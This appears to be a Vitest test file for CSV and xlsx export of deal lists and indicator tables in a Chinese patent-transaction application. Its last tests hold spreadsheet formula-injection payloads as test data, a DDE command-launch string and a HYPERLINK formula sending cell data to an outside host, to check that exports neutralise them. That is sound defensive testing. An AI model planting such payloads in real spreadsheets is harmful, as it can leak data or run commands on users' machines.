import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setUpStore } from '../../tests/testing/tempStore';
import { dealRows, workbookOf } from '../importing/fixtures/generateRows';
import { csvRows } from '../importing/readers/csvRows';
import { importBytes } from '../importing/testing';

let store: Awaited<ReturnType<typeof setUpStore>>;

beforeAll(async () => {
  store = await setUpStore('140100');
  const job = await importBytes(store.call, await workbookOf({ 交易: dealRows(9) }));
  expect(job.report?.new).toBe(9);
});
afterAll(() => store.close());

async function sheetRows(base64: string): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('export', () => {
  it('takes the deal list out to CSV with a BOM, with the filters the list shows', async () => {
    const file = await store.call('export.list', { list: 'deals', filters: { kind: '许可' }, format: 'csv' });
    expect(file.fileName).toMatch(/^交易列表_\d{8}\.csv$/);
    const bytes = Buffer.from(file.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0]).toBe(
      '合同编号,交易类型,许可方式,地区,合同日期,备案日期,成交金额（万元）,专利数,所属产业,让与方,让与方类型,受让方,受让方规模,待审异常,状态',
    );
    // dealRows makes every third deal a license: 1, 4, 7.
    expect(
      lines
        .slice(1)
        .map((l) => l.split(',')[0])
        .sort(),
    ).toEqual(['HT-2022-000001', 'HT-2022-000004', 'HT-2022-000007']);
    expect(lines[1]).toContain(',许可,普通,太原市,');
  });

  it('takes every row of the list to xlsx, amounts exact in 万元', async () => {
    const file = await store.call('export.list', { list: 'deals', filters: {}, format: 'xlsx' });
    const rows = await sheetRows(file.base64);
    expect(rows).toHaveLength(1 + 9);
    const first = rows.find((r) => r[0] === 'HT-2022-000000');
    expect(first?.[6]).toBe(1234.5);
  });

  it('refuses filters the list does not know, in Chinese', async () => {
    await expect(
      store.call('export.list', { list: 'deals', filters: { kind: '买卖' }, format: 'csv' }),
    ).rejects.toThrow(/筛选条件有误/);
  });

  it('takes an indicator table as shown to xlsx and CSV', async () => {
    const table = {
      title: '2022年度指标',
      columns: ['指标', '本年', '累计'],
      rows: [
        ['I1 中小微企业受让专利数', 12, 30],
        ['I5 质押融资金额（万元）', '1,200.00', null],
      ],
    };
    const xlsx = await store.call('export.table', { ...table, format: 'xlsx' });
    expect(xlsx.fileName).toMatch(/^2022年度指标_\d{8}\.xlsx$/);
    expect(await sheetRows(xlsx.base64)).toEqual([
      ['指标', '本年', '累计'],
      ['I1 中小微企业受让专利数', 12, 30],
      ['I5 质押融资金额（万元）', '1,200.00'],
    ]);
    const csv = Buffer.from((await store.call('export.table', { ...table, format: 'csv' })).base64, 'base64').toString(
      'utf8',
    );
    expect(csv).toBe(
      '\ufeff指标,本年,累计\r\nI1 中小微企业受让专利数,12,30\r\nI5 质押融资金额（万元）,"1,200.00",\r\n',
    );
  });

  it('writes party names that look like formulas as text: CSV cells get a leading quote, xlsx keeps strings', async () => {
    const formulas = [
      '=HYPERLINK("http://example.com/?q="&A1,"点此查看")',
      "=cmd|' /C calc'!A0",
      '+1+2',
      '-2+3',
      '@SUM(1+1)',
    ];
    const own = await setUpStore('140100');
    try {
      // The import takes such names as they are (a party name is free text), one deal per name as its assignor.
      const rows = dealRows(formulas.length, 1, 'FX').map((row, i) =>
        row.map((cell, c) => (c === 7 ? formulas[i]! : cell)),
      );
      const job = await importBytes(own.call, await workbookOf({ 交易: rows }));
      expect(job.report?.rejected).toEqual([]);

      const csv = await own.call('export.list', { list: 'deals', filters: {}, format: 'csv' });
      const text = Buffer.from(csv.base64, 'base64').subarray(3).toString('utf8');
      const lines = [...csvRows(text)].flatMap((e) => (e.type === 'row' ? [e.cells] : []));
      const assignors = lines.slice(1).map((cells) => cells[9]);
      expect(assignors.sort()).toEqual(formulas.map((f) => `'${f}`).sort());

      const xlsx = await own.call('export.list', { list: 'deals', filters: {}, format: 'xlsx' });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(xlsx.base64, 'base64') as unknown as ArrayBuffer);
      const cells = workbook.worksheets[0]!.getColumn(10).values.slice(2);
      expect(cells.map((c) => typeof c).every((t) => t === 'string')).toBe(true);
      expect([...cells].sort()).toEqual([...formulas].sort());
    } finally {
      own.close();
    }
  });

  it('neutralises tab and carriage-return starts and text like -5 in tables, and keeps number cells numbers', async () => {
    const table = {
      title: '公式',
      columns: ['名称', '数值'],
      rows: [
        ['\t=1+1', -5],
        ['\r=1+1', '-5'],
        ['@A1', 0],
      ],
    };
    const csv = Buffer.from((await store.call('export.table', { ...table, format: 'csv' })).base64, 'base64');
    expect(csv.subarray(3).toString('utf8')).toBe(`名称,数值\r\n'\t=1+1,-5\r\n"'\r=1+1",'-5\r\n'@A1,0\r\n`);
  });
});
